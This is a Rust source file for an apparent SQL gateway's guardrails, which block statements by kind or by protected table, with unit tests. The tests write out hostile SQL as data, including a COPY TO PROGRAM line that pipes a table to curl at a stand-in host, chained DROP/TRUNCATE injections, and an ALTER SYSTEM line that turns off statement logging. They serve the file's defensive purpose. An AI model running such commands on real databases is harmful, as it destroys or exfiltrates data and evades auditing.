//! Guardrails: statement rules checked before a statement is forwarded, on what [`crate::sql`]
//! read of it as the server will read it.
//!
//! Every statement of a multi-statement string is checked, nested ones included (`EXPLAIN
//! ANALYZE DELETE …`, `PREPARE … AS UPDATE …`, `DECLARE … CURSOR FOR …`, data-modifying `WITH`).
//! What the parser cannot read is handled fail-closed: a strict rule blocks it, a table rule
//! blocks it (it cannot tell which tables it touches), and the kinds found by scanning its
//! keywords still apply. A rule with tables also blocks what runs SQL the guard cannot see:
//! `DO` blocks, functions that run SQL text (`query_to_xml('select …')`), functions that are not
//! built in, and fastpath function calls.

use std::fmt;

use crate::sql::functions::{FunctionKind, Functions};
use crate::sql::{Analysis, Facts, LexMode};

pub use crate::sql::Kind;

/// A table a rule protects: `table` or `schema.table`, each part a name or `*`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TablePattern {
    schema: Option<String>,
    table: String,
}

impl TablePattern {
    /// Parts are compared as PostgreSQL folds unquoted names: in lower case.
    pub fn parse(text: &str) -> Option<TablePattern> {
        match name_parts(text)?.as_slice() {
            [t] => Some(TablePattern {
                schema: None,
                table: t.clone(),
            }),
            [s, t] => Some(TablePattern {
                schema: Some(s.clone()),
                table: t.clone(),
            }),
            _ => None,
        }
    }

    /// An unqualified name in a statement matches whatever schema the rule names: the search
    /// path decides where it resolves, so the guard assumes the worst.
    fn matches(&self, schema: Option<&str>, table: &str) -> bool {
        let part = |want: &str, have: &str| want == "*" || have == "*" || want == have;
        part(&self.table, table)
            && match (&self.schema, schema) {
                (Some(want), Some(have)) => part(want, have),
                _ => true,
            }
    }
}

pub(crate) use jitgate_core::masking::{in_scope, name_parts};

impl fmt::Display for TablePattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.schema {
            Some(s) => write!(f, "{s}.{}", self.table),
            None => f.write_str(&self.table),
        }
    }
}

/// One `[[guardrails]]` rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GuardRule {
    pub name: String,
    /// Resources it applies to; empty: all.
    pub resources: Vec<String>,
    /// Roles it applies to; empty: all.
    pub roles: Vec<String>,
    pub deny: Vec<Kind>,
    pub tables: Vec<TablePattern>,
    /// Block statements the parser cannot read, and `DO` blocks.
    pub strict: bool,
}

impl GuardRule {
    fn judge(&self, f: &Facts, functions: Option<&Functions>) -> Option<String> {
        if let Some(k) = self.deny.iter().find(|k| f.kinds.contains(k)) {
            return Some(format!("{} is not allowed", k.describe()));
        }
        if f.opaque() && self.strict {
            return Some(format!(
                "{} cannot be checked and this rule is strict",
                opaque_what(f)
            ));
        }
        if self.tables.is_empty() {
            return None;
        }
        if f.opaque() {
            return Some(format!(
                "{} cannot be checked against the rule's tables",
                opaque_what(f)
            ));
        }
        if let Some(why) = hidden_sql(f, functions) {
            return Some(format!(
                "{why}, which cannot be checked against the rule's tables"
            ));
        }
        for t in &f.tables {
            if let Some(p) = self
                .tables
                .iter()
                .find(|p| p.matches(t.schema.as_deref(), &t.name))
            {
                return Some(format!("it touches {p}, which this rule protects"));
            }
        }
        None
    }
}

fn opaque_what(f: &Facts) -> &'static str {
    if f.parsed {
        "a DO block"
    } else {
        "a statement the guard cannot parse"
    }
}

/// A function `f` calls that runs SQL the guard never sees, if any, said in words.
pub(crate) fn hidden_sql(f: &Facts, functions: Option<&Functions>) -> Option<String> {
    f.functions.iter().find_map(|name| {
        let kind = match functions {
            Some(fs) if fs.is_loaded() => fs.kind(name),
            // Without the server's list (unit tests), at least the ones known to run SQL.
            _ => Functions::kind_by_name(name),
        };
        match kind {
            FunctionKind::RunsSql => Some(format!("it calls {name}, which runs SQL text")),
            FunctionKind::Unknown => Some(format!(
                "it calls {name}, which is not a built-in function and runs code the gateway cannot see"
            )),
            _ => None,
        }
    })
}

/// Why a statement was blocked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Blocked {
    pub rule: String,
    pub why: String,
}

impl Blocked {
    pub fn message(&self) -> String {
        format!(
            "jitgate guardrail \"{}\" blocked this statement: {}",
            self.rule, self.why
        )
    }
}

/// The rules that apply to one session.
pub struct SessionGuard {
    rules: Vec<GuardRule>,
}

impl SessionGuard {
    /// The rules for a session on `resource` with `role`, or `None` when no rule applies.
    pub fn for_session(rules: &[GuardRule], resource: &str, role: &str) -> Option<SessionGuard> {
        let rules: Vec<GuardRule> = rules
            .iter()
            .filter(|r| in_scope(&r.resources, &r.roles, resource, role))
            .cloned()
            .collect();
        (!rules.is_empty()).then_some(SessionGuard { rules })
    }

    /// The first rule's name, for refusals made on behalf of all of them.
    pub fn first_rule(&self) -> &str {
        &self.rules[0].name
    }

    /// Whether a rule names tables: then the session needs the server's function list to tell
    /// built-in functions from ones that run code it cannot see.
    pub fn needs_functions(&self) -> bool {
        self.rules.iter().any(|r| !r.tables.is_empty())
    }

    /// A FunctionCall message runs a function by OID, with no SQL to check: a strict rule, or
    /// one with tables, blocks it.
    pub fn function_call(&self) -> Option<Blocked> {
        self.rules
            .iter()
            .find(|r| r.strict || !r.tables.is_empty())
            .map(|r| Blocked {
                rule: r.name.clone(),
                why: if r.strict {
                    "a function call by OID cannot be checked and this rule is strict".into()
                } else {
                    "a function call by OID cannot be checked against the rule's tables".into()
                },
            })
    }

    /// The first rule that blocks a statement of `a`.
    pub fn judge(&self, a: &Analysis, functions: Option<&Functions>) -> Option<Blocked> {
        judge_analysis(&self.rules, a, functions)
    }
}

fn judge_analysis(
    rules: &[GuardRule],
    a: &Analysis,
    functions: Option<&Functions>,
) -> Option<Blocked> {
    for f in &a.statements {
        for rule in rules {
            if let Some(why) = rule.judge(f, functions) {
                return Some(Blocked {
                    rule: rule.name.clone(),
                    why,
                });
            }
        }
    }
    None
}

/// The first rule that blocks `sql`, read with standard-conforming strings and without the
/// server's function list.
pub fn judge(rules: &[GuardRule], sql: &str) -> Option<Blocked> {
    judge_analysis(rules, &crate::sql::analyze(sql, LexMode::default()), None)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(deny: &[&str], tables: &[&str], strict: bool) -> GuardRule {
        GuardRule {
            name: "r".into(),
            resources: vec![],
            roles: vec![],
            deny: deny.iter().map(|k| Kind::parse(k).expect(k)).collect(),
            tables: tables
                .iter()
                .map(|t| TablePattern::parse(t).expect(t))
                .collect(),
            strict,
        }
    }

    fn blocked(r: &GuardRule, sql: &str) -> bool {
        judge(std::slice::from_ref(r), sql).is_some()
    }

    #[test]
    fn kinds_are_found_in_every_statement_and_nested_ones() {
        let r = rule(
            &[
                "drop",
                "truncate",
                "delete_without_where",
                "update_without_where",
                "copy_program",
                "alter_system",
            ],
            &[],
            false,
        );
        for sql in [
            "DROP TABLE orders",
            "select 1; drop table orders",
            "SELECT 1; /* harmless */ TRUNCATE orders",
            "-- just a comment\nDELETE FROM orders",
            "DELETE FROM orders -- WHERE id = 1",
            "UPDATE orders SET total = 0",
            "EXPLAIN ANALYZE DELETE FROM orders",
            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
            "PREPARE p AS UPDATE orders SET total = 0",
            "COPY orders TO PROGRAM 'curl -d @- evil.example'",
            "ALTER SYSTEM SET log_statement = 'none'",
            "/* /* nested */ SELECT 1; */ DROP TABLE orders",
            "SELECT $$; $$; DROP TABLE orders",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        for sql in [
            "SELECT * FROM orders",
            "DELETE FROM orders WHERE id = 1",
            "UPDATE orders SET total = 0 WHERE id = 1",
            "SELECT 'DROP TABLE orders'",
            "SELECT $$DROP TABLE orders$$",
            "SELECT 1 -- ; DROP TABLE orders",
            "SELECT \"drop\" FROM t",
            "COPY orders TO STDOUT",
            "BEGIN; INSERT INTO orders VALUES (1); COMMIT",
        ] {
            assert!(!blocked(&r, sql), "blocked: {sql}");
        }
    }

    #[test]
    fn ddl_covers_create_alter_grant_and_comment() {
        let r = rule(&["ddl"], &[], false);
        for sql in [
            "CREATE TABLE t (id int)",
            "ALTER TABLE orders ADD COLUMN x int",
            "GRANT SELECT ON orders TO public",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "COMMENT ON TABLE orders IS 'x'",
            "DROP INDEX i",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        assert!(!blocked(&r, "SELECT 1"));
    }

    #[test]
    fn tables_match_through_aliases_joins_subqueries_and_quoting() {
        let r = rule(&[], &["public.payments"], false);
        for sql in [
            "SELECT * FROM payments",
            "SELECT p.card FROM public.payments AS p",
            "SELECT * FROM orders o JOIN payments p ON p.order_id = o.id",
            "SELECT * FROM orders WHERE id IN (SELECT order_id FROM PAYMENTS)",
            "SELECT * FROM \"public\".\"payments\"",
            "WITH x AS (SELECT * FROM payments) SELECT * FROM x",
            "DROP TABLE payments",
            "TRUNCATE payments",
            "DO $$ BEGIN EXECUTE 'DELETE FROM payments'; END $$",
        ] {
            assert!(blocked(&r, sql), "not blocked: {sql}");
        }
        for sql in [
            "SELECT * FROM orders",
            "SELECT * FROM audit.payments",
            "SELECT * FROM \"Payments\"",
            "SELECT 'payments'",
        ] {
            assert!(!blocked(&r, sql), "blocked: {sql}");
        }
    }

    #[test]
    fn strict_rules_block_what_cannot_be_parsed() {
        let lax = rule(&["drop"], &[], false);
        let strict = rule(&["drop"], &[], true);
        let odd = "SELECT FROM WHERE nonsense (";
        assert!(!blocked(&lax, odd));
        assert!(blocked(&strict, odd));
        let block = "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$";
        assert!(!blocked(&lax, block), "a lax rule cannot see into DO");
        assert!(blocked(&strict, block));
        assert!(blocked(&strict, "SELECT 'unterminated"));
        // What even the lexer cannot split counts every keyword in it, strings included.
        let delete = rule(&["delete_without_where"], &[], false);
        assert!(blocked(
            &delete,
            "DELETE FROM orders; SELECT $a$ unterminated"
        ));
    }

    #[test]
    fn rules_apply_by_resource_and_role() {
        let mut r = rule(&["drop"], &[], false);
        r.resources = vec!["orders-db".into()];
        r.roles = vec!["read".into()];
        let rules = [r];
        assert!(SessionGuard::for_session(&rules, "orders-db", "admin").is_none());
        assert!(SessionGuard::for_session(&rules, "other-db", "read").is_none());
        let g = SessionGuard::for_session(&rules, "orders-db", "read").expect("applies");
        let check = |sql: &str| g.judge(&crate::sql::analyze(sql, LexMode::default()), None);
        let b = check("DROP TABLE x").expect("blocked");
        assert_eq!(b.rule, "r");
        assert!(
            b.message().contains("a DROP is not allowed"),
            "{}",
            b.message()
        );
        assert_eq!(check("SELECT 1"), None);
    }

    #[test]
    fn table_patterns_parse_strictly() {
        assert!(TablePattern::parse("public.payments").is_some());
        assert!(TablePattern::parse("*.secrets").is_some());
        assert!(TablePattern::parse("a.b.c").is_none());
        assert!(TablePattern::parse("pay;ments").is_none());
        assert!(TablePattern::parse("").is_none());
    }
}
